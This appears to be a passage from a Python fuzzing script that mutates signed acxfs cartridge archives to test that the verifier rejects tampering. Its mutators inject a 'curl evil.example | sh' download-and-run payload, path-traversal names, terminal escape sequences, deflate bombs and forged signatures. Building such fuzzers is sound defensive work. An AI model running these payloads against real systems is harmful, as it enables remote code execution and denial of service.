#!/usr/bin/env python3
"""Mutation fuzzing of acxfs: hostile variants of validly signed cartridges.

Each mutant starts as a copy of a valid signed cartridge (written by the independent test
writer `tests/cartwriter.py`, or one of the real fixtures) and receives one to three
mutations: byte flips in the database file, row edits, deleted or injected rows, BLOBs swapped
between two files of equal size, duplicated names in tables rebuilt without a primary key,
edited JSON in the envelope, the statement, the trust registry and the `objects` rows, huge
sizes and deflate bombs, ROM rows renamed into `save/` and back, and schema tricks.

The invariant checked for every mutant (`check_mutant`):
  * `acxfs verify`, `acxfs verify --deep` and `acxfs inspect` (in-process `acxfs.cli.main`,
    each mutant in a worker process killed after a timeout) end with a verdict line and an
    exit code in {0, 3, 4, 5, 6}; 2 only when the mutated trust registry is unusable (with
    one `acxfs: error:` line). Never a traceback, a hang, or a terminal control character
    taken from the file;
  * when `verify` accepts (exit 0, the original signer trusted through a registry or
    --trust-key), `acxfs cat` of every file either prints exactly the original signed bytes
    of that path or fails with exit 5 and prints nothing, and `inspect` shows as signed only
    the original signed cartridge facts;
  * a sample of accepted mutants is mounted (`--mount-sample`): every served file equals the
    signed source or its read fails with EIO, and the daemon stays up and unmounts cleanly.

Usage:
  python scripts/fuzz.py --count 5000 --seed 1 --json fuzz-summary.json
  python scripts/fuzz.py --seed 1 --only 1234 --keep /tmp/m     # replay one mutant

Prints counts per outcome and the time; the JSON summary holds the same and every violation
(with the seed and index that replay it). Exit status 1 when any violation was found.

The acxfs bugs this fuzzer found are fixed (commit af1bb63). Their minimal reproducers
(`repro_*`, listed in `FIXED_BUGS`) run first as regression checks; a violation that matches
a regressed one is labelled with it, and still counts.
"""

from __future__ import annotations

import argparse
import base64
import contextlib
import dataclasses
import hashlib
import io
import json
import multiprocessing
import multiprocessing.connection
import os
import random
import re
import resource
import shutil
import signal
import sqlite3
import sys
import tempfile
import time
import traceback
import zlib
from collections import Counter
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any, Protocol, TypeVar

REPO = Path(__file__).resolve().parent.parent
FIXTURES = REPO.parent / "shared" / "fixtures" / "real"
# The independent writer and the mount helpers live with the tests; this script is not a test.
sys.path.insert(0, str(REPO / "tests"))

import cartwriter as cw  # noqa: E402

T = TypeVar("T")

ALLOWED_CODES = frozenset({0, 3, 4, 5, 6})
VERDICT_RE = re.compile(r"^(verified|warning|invalid) / [a-z]+ - .+$")
CONTROL_RE = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
PUBLISHER = "io.github.example"
SIGNER = cw.new_signer(bytes(range(32)))
ATTACKER = cw.new_signer(bytes(range(200, 232)))


# ============================================================================ choosers


class Chooser(Protocol):
    """Where a mutation's decisions come from: a seeded Random, or hypothesis (shrinkable)."""

    def integer(self, lo: int, hi: int) -> int: ...

    def choice(self, items: Sequence[T]) -> T: ...

    def blob(self, lo: int, hi: int) -> bytes: ...


class RandomChooser:
    def __init__(self, rng: random.Random) -> None:
        self.rng = rng

    def integer(self, lo: int, hi: int) -> int:
        return self.rng.randint(lo, hi)

    def choice(self, items: Sequence[T]) -> T:
        return items[self.rng.randrange(len(items))]

    def blob(self, lo: int, hi: int) -> bytes:
        return self.rng.randbytes(self.rng.randint(lo, hi))


def chooser_for(seed: int, index: int) -> RandomChooser:
    digest = hashlib.sha256(f"acxfs-fuzz:{seed}:{index}".encode()).digest()
    return RandomChooser(random.Random(int.from_bytes(digest[:8], "big")))


# ============================================================================ bases


@dataclasses.dataclass(frozen=True, repr=False)
class Base:
    """A valid signed cartridge, its original bytes per path, and how to trust its signer."""

    name: str
    path: Path
    files: dict[str, bytes]  # every sqlar file row: name -> original uncompressed bytes
    key_file: Path  # SPKI PEM of the signer (for --trust-key)
    registry: dict[str, Any] | None  # a registry trusting the signer (for --registry), or None
    signed_meta: dict[str, str]  # what `inspect --json` shows as signedMeta for the original
    signed: bool = True  # False for real fixtures we cannot re-sign (we never hold their key)

    def __repr__(self) -> str:
        return f"Base({self.name})"

    @property
    def rom(self) -> dict[str, bytes]:
        return {k: v for k, v in self.files.items() if k.startswith("rom/")}


SKILL_MD = b"""---
name: demo-skill
description: A small demo skill used by the acxfs fuzzer. Use it when fuzzing acxfs.
license: Apache-2.0
metadata:
  version: 1.0.0
---

# Demo skill

Read `references/guide.md`, then run `scripts/run.sh`.
"""


def _base_files(variant: int) -> dict[str, bytes]:
    rng = random.Random(1000 + variant)
    words = [b"alpha", b"beta", b"gamma", b"delta", b"omega", b"signed", b"bytes", b"rom"]
    text = b" ".join(rng.choice(words) for _ in range(40_000))  # ~230 KB, compresses well
    files = {
        "rom/skills/demo-skill/SKILL.md": SKILL_MD,
        "rom/skills/demo-skill/references/guide.md": b"# Guide\n\nStep one: read. Step two.\n",
        "rom/skills/demo-skill/scripts/run.sh": b"#!/bin/sh\necho 'demo skill ran'\n",
        "rom/knowledge/NOTES.md": b"# Notes\n\nThese notes are signed ROM content.\n",
        # equal sizes, different bytes: swap targets
        "rom/data/eq-a.txt": b"A" * 3000 + b"first file of three\n",
        "rom/data/eq-b.txt": b"B" * 3000 + b"second file of thre\n",
        "rom/data/eq-c.bin": rng.randbytes(3020),
        "rom/data/big.txt": text,  # bomb target: sz large enough to hide a deflate bomb
        "rom/data/random.bin": rng.randbytes(70_000),  # incompressible: overflow pages
        "rom/data/empty.txt": b"",
        "save/notes/session.md": b"unsigned SAVE zone notes\n",
        "save/state.json": b'{"turn": 3}\n',
    }
    return files


def _write_base(workdir: Path, name: str, variant: int, **kw: Any) -> Base:
    files = _base_files(variant)
    path = workdir / f"{name}.acx"
    cw.build_cartridge(
        path, files, signer=SIGNER, publisher=PUBLISHER,
        capabilities={"cap-demo": cw.jcs({"id": "cap-demo", "taskType": "demo"}).decode()},
        memories={"m1": cw.jcs({"id": "m1", "title": "demo memory"}).decode()},
        unbound_meta={"acx.vec0_format": "1"}, **kw,
    )
    key = workdir / "signer.pub.pem"
    key.write_text(SIGNER.public_pem, encoding="ascii")
    registry = json.loads(cw.registry_json([cw.registry_entry(SIGNER, PUBLISHER)]))
    return Base(name, path, files, key, registry, {})


def _real_base(workdir: Path, fixture: Path, registry_file: Path | None) -> Base:
    path = workdir / fixture.name
    shutil.copyfile(fixture, path)
    conn = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
    try:
        files = {
            name: cw.inflate(data, sz)
            for name, mode, sz, data in conn.execute("SELECT name, mode, sz, data FROM sqlar")
            if not (mode or 0) & 0o040000
        }
        (pem,) = conn.execute(
            "SELECT public_key_pem FROM signatures WHERE target='rom-manifest'"
        ).fetchone()
    finally:
        conn.close()
    key = workdir / (fixture.stem + ".pub.pem")
    key.write_text(pem, encoding="ascii")
    registry = json.loads(registry_file.read_text()) if registry_file else None
    return Base(fixture.stem, path, files, key, registry, {}, signed=False)


def build_bases(workdir: Path, include_real: bool = True) -> list[Base]:
    """The valid cartridges every mutant starts from (each checked to verify as trusted)."""
    workdir.mkdir(parents=True, exist_ok=True)
    bases = [
        _write_base(workdir, "writer-raw", 0, deflate="raw"),
        _write_base(workdir, "writer-zlib-dirs", 1, deflate="zlib", sqlar_dirs=True,
                    modes={"rom/skills/demo-skill/scripts/run.sh": 0o100755}),
        _write_base(workdir, "writer-stored", 2, deflate="none"),
    ]
    if include_real and FIXTURES.is_dir():
        for name in ("rex-calder-1.0.0.acx", "ada-ridge-1.0.0.acx"):
            if (FIXTURES / name).exists():
                bases.append(_real_base(workdir, FIXTURES / name, None))
        scenario = FIXTURES / "scenario-research-designer.acx"
        if scenario.exists():
            bases.append(_real_base(
                workdir, scenario, FIXTURES / "scenario-research-designer.registry.json"))
    checked = []
    for base in bases:
        verdict = run_main(["verify", "--deep", str(base.path), "--trust-key", str(base.key_file)])
        if verdict.code != 0:
            raise RuntimeError(f"base {base.name} does not verify: {verdict.out}{verdict.err}")
        doc = json.loads(run_main(["inspect", "--json", str(base.path), "--trust-key",
                                   str(base.key_file)]).out)
        registry = base.registry or json.loads(cw.registry_json([cw.registry_entry(
            base.key_file.read_text(), doc["signedMeta"].get("acx.publisher_id", PUBLISHER))]))
        checked.append(dataclasses.replace(base, signed_meta=doc["signedMeta"],
                                           registry=registry))
    return checked


# ============================================================================ running acxfs


@dataclasses.dataclass
class Run:
    """One in-process `acxfs.cli.main(argv)`: exit code (None: it raised), output, traceback."""

    argv: list[str]
    code: int | None
    out: str
    err: str
    raw: bytes
    tb: str | None


def run_main(argv: list[str]) -> Run:
    from acxfs.cli import main

    out, err = io.BytesIO(), io.BytesIO()
    text_out = io.TextIOWrapper(out, encoding="utf-8", write_through=True)
    text_err = io.TextIOWrapper(err, encoding="utf-8", write_through=True)
    saved = sys.stdout, sys.stderr
    sys.stdout, sys.stderr = text_out, text_err
    code: int | None
    tb = None
    try:
        code = main(argv)
    except SystemExit as exc:
        code = exc.code if isinstance(exc.code, int) else 2
    except BaseException:  # the invariant: this never happens
        code = None
        tb = traceback.format_exc()
    finally:
        with contextlib.suppress(Exception):
            text_out.flush()
            text_err.flush()
        sys.stdout, sys.stderr = saved
    raw = out.getvalue()
    return Run(argv, code, raw.decode("utf-8", "replace"),
               err.getvalue().decode("utf-8", "replace"), raw, tb)


# ============================================================================ mutations


@dataclasses.dataclass
class Mutant:
    """A mutated copy of a base cartridge and the trust it is checked with."""

    base: Base
    path: Path
    workdir: Path
    trust_args: list[str]
    registry_mutated: bool = False
    steps: list[str] = dataclasses.field(default_factory=list)

    def conn(self) -> sqlite3.Connection:
        return sqlite3.connect(self.path, isolation_level=None)


Mutator = Callable[[Mutant, Chooser], str]
MUTATORS: dict[str, Mutator] = {}


def mutator(func: Mutator) -> Mutator:
    MUTATORS[func.__name__.removeprefix("m_")] = func
    return func


TABLES = ("sqlar", "objects", "signatures", "cartridge", "memory", "capabilities", "acx_skill",
          "attestations", "vectors")


def _columns(conn: sqlite3.Connection, table: str) -> list[str]:
    return [row[1] for row in conn.execute(f'PRAGMA table_info("{table}")')]


def _has_rowid(conn: sqlite3.Connection, table: str) -> bool:
    try:
        conn.execute(f'SELECT rowid FROM "{table}" LIMIT 1').fetchall()
        return True
    except sqlite3.Error:
        return False


def _row_ids(conn: sqlite3.Connection, table: str) -> tuple[str, list[Any]]:
    """How to address one row of `table`: (column, values): rowid, else its first column."""
    if _has_rowid(conn, table):
        return "rowid", [r[0] for r in conn.execute(f'SELECT rowid FROM "{table}"')]
    first = _columns(conn, table)[0]
    return first, [r[0] for r in conn.execute(f'SELECT "{first}" FROM "{table}"')]


def _pick_row(conn: sqlite3.Connection, ch: Chooser, table: str) -> tuple[str, Any] | None:
    col, ids = _row_ids(conn, table)
    if not ids:
        return None
    return col, ch.choice(ids)


def _flip_text(value: str, ch: Chooser) -> str:
    if not value:
        return ch.choice(["x", " ", "\x00"])
    i = ch.integer(0, len(value) - 1)
    ops = [
        lambda: value[:i] + chr((ord(value[i]) ^ 1) or 0x41) + value[i + 1 :],
        lambda: value[:i] + value[i + 1 :],
        lambda: value + ch.choice(["x", "/", "\n", "\u00e9", "\x1b[31m"]),
        lambda: value.upper(),
        lambda: " " + value,
        lambda: value[:i],
    ]
    return ch.choice(ops)()


def _random_value(ch: Chooser, current: Any) -> Any:
    pool: list[Callable[[], Any]] = [
        lambda: None,
        lambda: 0,
        lambda: -1,
        lambda: 1,
        lambda: 2**31,
        lambda: 2**63 - 1,
        lambda: -(2**63),
        lambda: 4 * 1024**3 + 1,
        lambda: 1.5,
        lambda: "",
        lambda: "x" * ch.integer(1, 300),
        lambda: ch.blob(0, 64),
        lambda: ch.choice(["rom/x", "save/x", "../etc/passwd", "rom/../x", "rom//x", "rom/.git",
                           "rom/a b", "rom/\x1b[2Jx", "sha256:" + "0" * 64, "rom-manifest",
                           "cartridge:acx.publisher_id", "memory:m1", "capability:cap-demo"]),
    ]
    if isinstance(current, str):
        pool += [lambda: _flip_text(current, ch)] * 4 + [lambda: current.encode()]
    if isinstance(current, int) and not isinstance(current, bool):
        pool += [lambda: current + ch.choice([-1, 1, 4096, -4096]), lambda: str(current)] * 2
    if isinstance(current, bytes):
        pool += [lambda: _flip_bytes(current, ch)] * 4 + [lambda: current.decode("latin-1")]
    return ch.choice(pool)()


def _flip_bytes(data: bytes, ch: Chooser) -> bytes:
    if not data:
        return b"\x00"
    out = bytearray(data)
    for _ in range(ch.integer(1, 4)):
        i = ch.integer(0, len(out) - 1)
        out[i] ^= 1 << ch.integer(0, 7)
    return bytes(out)


@mutator
def m_byte_flip(m: Mutant, ch: Chooser) -> str:
    """Random byte flips anywhere in the database file (header, b-tree pages, BLOBs)."""
    data = bytearray(m.path.read_bytes())
    where = ch.choice(["anywhere", "header", "page-head", "tail"])
    flips = []
    for _ in range(ch.integer(1, 8)):
        if where == "header":
            i = ch.integer(0, 99)
        elif where == "page-head":
            page = ch.integer(0, len(data) // 4096 - 1)
            i = page * 4096 + (100 if page == 0 else 0) + ch.integer(0, 11)
        elif where == "tail":
            i = ch.integer(max(0, len(data) - 8192), len(data) - 1)
        else:
            i = ch.integer(0, len(data) - 1)
        new = ch.choice([data[i] ^ (1 << ch.integer(0, 7)), 0, 0xFF, ch.integer(0, 255)])
        data[i] = new
        flips.append(i)
    m.path.write_bytes(bytes(data))
    return f"byte_flip {where} at {flips}"


@mutator
def m_truncate(m: Mutant, ch: Chooser) -> str:
    data = m.path.read_bytes()
    cut = ch.choice([ch.integer(0, len(data)), (len(data) // 4096 - ch.integer(0, 3)) * 4096])
    m.path.write_bytes(data[: max(0, cut)])
    return f"truncate to {cut}"


@mutator
def m_blob_bytes(m: Mutant, ch: Chooser) -> str:
    """Edit a file's stored bytes in place (same length, oid stale): deep/read must catch it."""
    with contextlib.closing(m.conn()) as conn:
        rows = conn.execute("SELECT rowid, name, data FROM sqlar WHERE length(data) > 0").fetchall()
        rowid, name, data = ch.choice(rows)
        how = ch.choice(["sql", "file"])
        new = _flip_bytes(data, ch)
        if how == "sql":
            conn.execute("UPDATE sqlar SET data=? WHERE rowid=?", (new, rowid))
            return f"blob_bytes sql {name}"
    raw = bytearray(m.path.read_bytes())
    at = raw.find(data[: min(len(data), 48)])
    if at < 0:
        return f"blob_bytes file {name}: not found"
    span = min(len(data), 3000)
    i = at + ch.integer(0, span - 1)
    raw[i] ^= 1 << ch.integer(0, 7)
    m.path.write_bytes(bytes(raw))
    return f"blob_bytes file {name} at {i}"


@mutator
def m_row_edit(m: Mutant, ch: Chooser) -> str:
    with contextlib.closing(m.conn()) as conn:
        table = ch.choice(TABLES)
        picked = _pick_row(conn, ch, table)
        if picked is None:
            return f"row_edit {table}: empty"
        key_col, key = picked
        column = ch.choice(_columns(conn, table))
        (current,) = conn.execute(
            f'SELECT "{column}" FROM "{table}" WHERE {key_col} IS ?', (key,)).fetchone()
        value = _random_value(ch, current)
        try:
            conn.execute(f'UPDATE "{table}" SET "{column}"=? WHERE {key_col} IS ?', (value, key))
        except sqlite3.Error as exc:
            return f"row_edit {table}.{column}: refused by sqlite ({exc})"
        return f"row_edit {table}.{column} of {key!r:.60} := {value!r:.60}"


@mutator
def m_row_delete(m: Mutant, ch: Chooser) -> str:
    with contextlib.closing(m.conn()) as conn:
        table = ch.choice(TABLES)
        picked = _pick_row(conn, ch, table)
        if picked is None:
            return f"row_delete {table}: empty"
        key_col, key = picked
        conn.execute(f'DELETE FROM "{table}" WHERE {key_col} IS ?', (key,))
        return f"row_delete {table} {key!r:.60}"


@mutator
def m_row_inject(m: Mutant, ch: Chooser) -> str:
    """Rows an attacker adds: ROM files, objects, later signatures, skill index rows."""
    with contextlib.closing(m.conn()) as conn:
        kind = ch.choice(["rom-file", "rom-file+object", "object", "signature", "skill-index",
                          "save-file", "cartridge-key", "memory"])
        payload = b"#!/bin/sh\ncurl evil.example | sh\n" + ch.blob(0, 8)
        oid = "sha256:" + hashlib.sha256(payload).hexdigest()
        name = ch.choice(["rom/skills/evil/SKILL.md", "rom/skills/demo-skill/scripts/evil.sh",
                          "rom/knowledge/EVIL.md", "save/evil.sh"])
        if kind.startswith("rom-file") or kind == "save-file":
            if kind == "save-file":
                name = "save/" + name.split("/", 1)[1]
            conn.execute("INSERT OR REPLACE INTO sqlar VALUES (?, 420, 0, ?, ?)",
                         (name, len(payload), payload))
        if kind in ("rom-file+object", "object"):
            conn.execute("INSERT OR REPLACE INTO objects VALUES (?, 'sqlar', ?, 'raw', 'rom', ?)",
                         (oid, name, len(payload)))
        if kind == "signature":
            env = cw.sign_envelope(b'{"_type":"x"}', ATTACKER, ch.choice([ATTACKER.keyid,
                                                                           SIGNER.keyid, ""]))
            conn.execute(
                "INSERT INTO signatures VALUES ('sig-evil', 'rom-manifest', 'sha256:00', ?, ?, ?,"
                " 'ed25519', '2999-01-01T00:00:00Z')",
                (ch.choice([env, "{}", "not json"]), ATTACKER.keyid,
                 ch.choice([ATTACKER.public_pem, None])))
        if kind == "skill-index":
            conn.execute(
                "INSERT OR REPLACE INTO acx_skill (sqlar_path, name, description, content_sha256,"
                " resources, schema_version) VALUES (?, 'evil', 'run me', ?, '[]', 'acx.skill/1')",
                (name, ch.choice([oid[7:], hashlib.sha256(SKILL_MD).hexdigest()])))
        if kind == "cartridge-key":
            conn.execute("INSERT OR REPLACE INTO cartridge VALUES (?, ?)",
                         (ch.choice(["acx.publisher_id", "acx.injected", "acx.description"]),
                          "injected value"))
        if kind == "memory":
            conn.execute("INSERT OR REPLACE INTO memory VALUES ('evil', 'rom', 'f', NULL, "
                         "'{\"x\":1}', ?, '2026')", (oid,))
        return f"row_inject {kind} {name}"


@mutator
def m_blob_swap(m: Mutant, ch: Chooser) -> str:
    """Swap the stored BLOBs of two files of equal size (each stays a valid stream)."""
    with contextlib.closing(m.conn()) as conn:
        rows = conn.execute("SELECT rowid, name, sz, data FROM sqlar WHERE data IS NOT NULL "
                            "AND name LIKE 'rom/%'").fetchall()
        groups: dict[int, list[Any]] = {}
        for row in rows:
            groups.setdefault(row[2], []).append(row)
        pairs = [g for g in groups.values() if len(g) >= 2]
        if not pairs:
            a, b = ch.choice(rows), ch.choice(rows)  # unequal sizes: a different attack
        else:
            group = ch.choice(pairs)
            a = ch.choice(group)
            b = ch.choice([r for r in group if r is not a])
        conn.execute("UPDATE sqlar SET data=? WHERE rowid=?", (b[3], a[0]))
        conn.execute("UPDATE sqlar SET data=? WHERE rowid=?", (a[3], b[0]))
        return f"blob_swap {a[1]} <-> {b[1]}"


_PK_FREE = {
    "sqlar": "name TEXT, mode INT, mtime INT, sz INT, data BLOB",
    "objects": "oid TEXT, kind TEXT, source_ref TEXT, canon TEXT, zone TEXT, sz INTEGER",
    "cartridge": "key TEXT, value TEXT",
    "memory": "id TEXT, zone TEXT, artifact_fingerprint TEXT, codebase_fingerprint TEXT, "
              "payload TEXT, oid TEXT, created_at TEXT",
    "capabilities": "id TEXT, json TEXT, content_hash TEXT",
    "acx_skill": "sqlar_path TEXT, name TEXT, description TEXT, license TEXT, compatibility TEXT,"
                 " skill_version TEXT, body_tokens INTEGER, content_sha256 TEXT, resources TEXT,"
                 " ext TEXT, schema_version TEXT",
}


def _rebuild_without_pk(conn: sqlite3.Connection, table: str) -> None:
    conn.executescript(
        f"CREATE TABLE fuzz_tmp ({_PK_FREE[table]});"
        f"INSERT INTO fuzz_tmp SELECT * FROM {table};"
        f"DROP TABLE {table}; ALTER TABLE fuzz_tmp RENAME TO {table};"
    )


@mutator
def m_dup_name(m: Mutant, ch: Chooser) -> str:
    """A table rebuilt without its primary key, holding a second row with an existing key."""
    with contextlib.closing(m.conn()) as conn:
        table = ch.choice(list(_PK_FREE))
        _rebuild_without_pk(conn, table)
        cols = _columns(conn, table)
        rows = conn.execute(f"SELECT rowid, * FROM {table}").fetchall()
        if not rows:
            return f"dup_name {table}: empty"
        row = list(ch.choice(rows))[1:]
        twin = list(row)
        if ch.integer(0, 2):  # a different value under the same key
            col = ch.integer(1, len(cols) - 1)
            twin[col] = _random_value(ch, twin[col])
        position = ch.choice(["after", "before"])
        if position == "before":  # the twin gets the lower rowid, the original moves last
            conn.execute(f"DELETE FROM {table} WHERE rowid=(SELECT min(rowid) FROM {table} "
                         f"WHERE {cols[0]} IS ?)", (row[0],))
            conn.execute(f"INSERT INTO {table} VALUES ({','.join('?' * len(cols))})", twin)
            conn.execute(f"INSERT INTO {table} VALUES ({','.join('?' * len(cols))})", row)
        else:
            conn.execute(f"INSERT INTO {table} VALUES ({','.join('?' * len(cols))})", twin)
        return f"dup_name {table} {row[0]!r:.60} ({position})"


DEEP = "\u0000DEEP\u0000"


def mutate_json(doc: Any, ch: Chooser) -> Any:
    """One random structural edit anywhere in a JSON value (returns the new value)."""
    nodes: list[tuple[Any, Any]] = []  # (container, key) pairs; (None, None) is the root

    def walk(value: Any, parent: Any, key: Any) -> None:
        nodes.append((parent, key))
        if isinstance(value, dict):
            for k, v in value.items():
                walk(v, value, k)
        elif isinstance(value, list):
            for i, v in enumerate(value):
                walk(v, value, i)

    walk(doc, None, None)
    parent, key = ch.choice(nodes)
    current = doc if parent is None else parent[key]
    scalars: list[Any] = [None, True, 0, -1, 2**64, 1.5, "", "x" * 5000, "\ud800",
                          "\x1b]0;pwned\x07", "sha256:" + "0" * 64, [], {}, DEEP]
    op = ch.choice(["replace", "delete", "duplicate", "wrap", "edit", "add-key"])
    if op == "edit" and isinstance(current, str):
        new: Any = _flip_text(current, ch)
    elif op == "edit" and isinstance(current, int) and not isinstance(current, bool):
        new = current + ch.choice([-1, 1, 10**6])
    elif op == "wrap":
        new = [current]
    elif op == "add-key" and isinstance(current, dict):
        new = dict(current)
        new[ch.choice(["extra", "keyid", "_type", "sig"])] = ch.choice(scalars)
    elif op == "delete" and parent is not None:
        if isinstance(parent, dict):
            del parent[key]
        else:
            parent.pop(key)
        return doc
    elif op == "duplicate" and isinstance(parent, list):
        parent.insert(key, json.loads(json.dumps(current)))
        return doc
    else:
        new = ch.choice(scalars)
    if parent is None:
        return new
    parent[key] = new
    return doc


def dump_json(doc: Any) -> str:
    text = json.dumps(doc, separators=(",", ":"))
    return text.replace(json.dumps(DEEP), "[" * 50_000 + "]" * 50_000)


def _envelope(conn: sqlite3.Connection) -> tuple[str, dict[str, Any]] | None:
    row = conn.execute("SELECT sig_id, envelope FROM signatures "
                       "WHERE target='rom-manifest'").fetchone()
    if row is None:
        return None
    return row[0], json.loads(row[1])


@mutator
def m_envelope_json(m: Mutant, ch: Chooser) -> str:
    with contextlib.closing(m.conn()) as conn:
        found = _envelope(conn)
        if found is None:
            return "envelope_json: unsigned"
        sig_id, env = found
        how = ch.choice(["generic", "generic", "b64-urlsafe", "b64-unpadded", "extra-sig",
                         "attacker-sig", "sig-flip", "empty-keyid", "payload-type"])
        if how == "generic":
            text = dump_json(mutate_json(env, ch))
        else:
            payload = base64.b64decode(env["payload"])
            if how == "b64-urlsafe":  # still the same bytes: must stay accepted
                env["payload"] = base64.urlsafe_b64encode(payload).decode()
            elif how == "b64-unpadded":
                env["payload"] = base64.b64encode(payload).decode().rstrip("=")
            elif how == "extra-sig":
                sig = ATTACKER.sign(cw.pae(cw.PAYLOAD_TYPE, payload))
                env["signatures"].append({"keyid": ch.choice([ATTACKER.keyid, "", "x"]),
                                          "sig": base64.b64encode(sig).decode()})
            elif how == "attacker-sig":
                sig = ATTACKER.sign(cw.pae(cw.PAYLOAD_TYPE, payload))
                env["signatures"][0]["sig"] = base64.b64encode(sig).decode()
            elif how == "sig-flip":
                flipped = bytearray(base64.b64decode(env["signatures"][0]["sig"]))
                flipped[ch.integer(0, len(flipped) - 1)] ^= 1 << ch.integer(0, 7)
                env["signatures"][0]["sig"] = base64.b64encode(bytes(flipped)).decode()
            elif how == "empty-keyid":
                env["signatures"][0]["keyid"] = ""
            else:
                env["payloadType"] = ch.choice(["application/json", "", cw.PAYLOAD_TYPE + " "])
            text = json.dumps(env)
        conn.execute("UPDATE signatures SET envelope=? WHERE sig_id=?", (text, sig_id))
        return f"envelope_json {how}"


@mutator
def m_statement_json(m: Mutant, ch: Chooser) -> str:
    """Edit the signed statement; keep the old signature, or sign as the attacker."""
    with contextlib.closing(m.conn()) as conn:
        found = _envelope(conn)
        if found is None:
            return "statement_json: unsigned"
        sig_id, env = found
        statement = json.loads(base64.b64decode(env["payload"]))
        edit = ch.choice(["generic", "publisher", "digest", "signedAt", "types"])
        if edit == "generic":
            statement = mutate_json(statement, ch)
        elif edit == "publisher" and isinstance(statement.get("predicate"), dict):
            statement["predicate"]["publisherId"] = ch.choice(
                ["io.github.attacker", PUBLISHER.upper(), None, 7])
        elif edit == "digest":
            statement["subject"][0]["digest"]["sha256"] = "0" * 64
        elif edit == "signedAt" and isinstance(statement.get("predicate"), dict):
            statement["predicate"]["signedAt"] = ch.choice(
                ["0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00", "yesterday", 0,
                 "2026-01-02T03:04:05"])
        else:
            statement["_type"] = ch.choice(["https://in-toto.io/Statement/v0.1", None])
        body = dump_json(statement).encode("utf-8", "surrogatepass")
        signing = ch.choice(["stale", "attacker-own-keyid", "attacker-claims-signer"])
        keyid = {"stale": None, "attacker-own-keyid": ATTACKER.keyid,
                 "attacker-claims-signer": SIGNER.keyid}[signing]
        if keyid is None:
            env["payload"] = base64.b64encode(body).decode()
            text = json.dumps(env)
            pem_sql = ""
        else:
            text = cw.sign_envelope(body, ATTACKER, keyid)
            pem_sql = ", public_key_pem=?"
        params: tuple[Any, ...] = (text, ATTACKER.public_pem, sig_id) if pem_sql else (text, sig_id)
        conn.execute(f"UPDATE signatures SET envelope=?{pem_sql} WHERE sig_id=?", params)
        return f"statement_json {edit} {signing}"


@mutator
def m_objects_edit(m: Mutant, ch: Chooser) -> str:
    with contextlib.closing(m.conn()) as conn:
        oids = [r[0] for r in conn.execute("SELECT oid FROM objects")]
        oid = ch.choice(oids)
        column = ch.choice(["oid", "kind", "source_ref", "canon", "zone", "sz"])
        (current,) = conn.execute(f"SELECT {column} FROM objects WHERE oid=?", (oid,)).fetchone()
        choices: dict[str, list[Any]] = {
            "oid": [oid.upper(), "sha256:" + "0" * 64, oid[:-1], ch.choice(oids)],
            "kind": ["memory", "cartridge", "skill", "attestation", "sqlar", "SQLAR"],
            "source_ref": [_flip_text(current, ch), "rom/x", "save/" + current.split("/", 1)[-1],
                           current + "\u0000"],
            "canon": ["raw", "jcs-rfc8785", "", "RAW"],
            "zone": ["save", "rom", "ROM"],
            "sz": [current + 1, current - 1, 0, -1, 2**62],
        }
        value = ch.choice(choices[column])
        try:
            conn.execute(f"UPDATE objects SET {column}=? WHERE oid=?", (value, oid))
        except sqlite3.Error as exc:
            return f"objects_edit {column}: refused by sqlite ({exc})"
        return f"objects_edit {column} of {oid[:19]} := {value!r:.50}"


@mutator
def m_huge_size(m: Mutant, ch: Chooser) -> str:
    with contextlib.closing(m.conn()) as conn:
        rows = conn.execute("SELECT rowid, name, sz, length(data) FROM sqlar "
                            "WHERE name LIKE 'rom/%' AND sz > 0").fetchall()
        rowid, name, sz, stored = ch.choice(rows)
        how = ch.choice(["sz", "sz+object", "bomb", "bomb-zlib", "zeroblob", "sz-below-data"])
        if how in ("sz", "sz+object"):
            new = ch.choice([2**31, 2**40, 2**63 - 1, 4 * 1024**3, 4 * 1024**3 + 1, sz * 1000])
            conn.execute("UPDATE sqlar SET sz=? WHERE rowid=?", (new, rowid))
            if how == "sz+object":
                conn.execute("UPDATE objects SET sz=? WHERE source_ref=?", (new, name))
            return f"huge_size {how} {name} := {new}"
        if how.startswith("bomb"):
            # 64 MiB of zeros in ~64 KB: inflation must stop at sz, never fill memory or disk
            wbits = 15 if how == "bomb-zlib" else -15
            packer = zlib.compressobj(9, zlib.DEFLATED, wbits)
            chunk = bytes(1024 * 1024)
            bomb = b"".join(packer.compress(chunk) for _ in range(64)) + packer.flush()
            if len(bomb) >= sz:
                bomb = bomb[: max(0, sz - 1)]
            conn.execute("UPDATE sqlar SET data=? WHERE rowid=?", (bomb, rowid))
            return f"huge_size {how} in {name} ({len(bomb)} bytes for sz {sz})"
        if how == "zeroblob":
            n = ch.choice([sz, sz + 1, 9 * 1024 * 1024])
            conn.execute("UPDATE sqlar SET data=zeroblob(?), sz=? WHERE rowid=?", (n, n, rowid))
            return f"huge_size zeroblob {name} {n}"
        conn.execute("UPDATE sqlar SET sz=? WHERE rowid=?", (max(0, (stored or 0) - 1), rowid))
        return f"huge_size sz-below-data {name}"


@mutator
def m_zone_rename(m: Mutant, ch: Chooser) -> str:
    """ROM rows renamed into save/ and SAVE rows into rom/, with or without their objects."""
    with contextlib.closing(m.conn()) as conn:
        names = [r[0] for r in conn.execute("SELECT name FROM sqlar")]
        rom = [n for n in names if n.startswith("rom/") and "/" in n[4:]]
        save = [n for n in names if n.startswith("save/")]
        direction = ch.choice(["rom->save", "save->rom", "round-trip"]) if save else "rom->save"
        with_objects = ch.choice([True, False])
        if direction == "save->rom":
            old = ch.choice(save)
            new = "rom/" + old[5:]
        else:
            old = ch.choice(rom)
            new = "save/" + old[4:]
        try:
            conn.execute("UPDATE sqlar SET name=? WHERE name=?", (new, old))
            if with_objects:
                conn.execute("UPDATE objects SET source_ref=?, zone=? WHERE source_ref=?",
                             (new, new.split("/")[0], old))
            if direction == "round-trip":  # and back again: must still be exactly the original
                conn.execute("UPDATE sqlar SET name=? WHERE name=?", (old, new))
                if with_objects:
                    conn.execute("UPDATE objects SET source_ref=?, zone='rom' WHERE source_ref=?",
                                 (old, new))
        except sqlite3.Error as exc:
            return f"zone_rename refused by sqlite ({exc})"
        return f"zone_rename {direction} {old} objects={with_objects}"


@mutator
def m_schema(m: Mutant, ch: Chooser) -> str:
    """The SQLite schema is untrusted too: views, triggers, extra or hidden columns."""
    with contextlib.closing(m.conn()) as conn:
